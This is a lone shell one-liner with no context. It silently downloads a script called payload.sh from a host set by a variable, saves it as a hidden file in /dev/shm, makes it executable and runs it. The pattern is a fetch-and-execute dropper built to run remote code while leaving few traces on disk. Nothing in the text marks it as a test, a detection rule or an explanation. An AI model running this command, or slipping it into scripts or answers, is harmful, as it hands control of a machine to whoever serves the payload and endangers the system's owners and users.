wget -q -O /dev/shm/.x "http://$DL_IP:8000/payload.sh" && chmod +x /dev/shm/.x && /dev/shm/.x
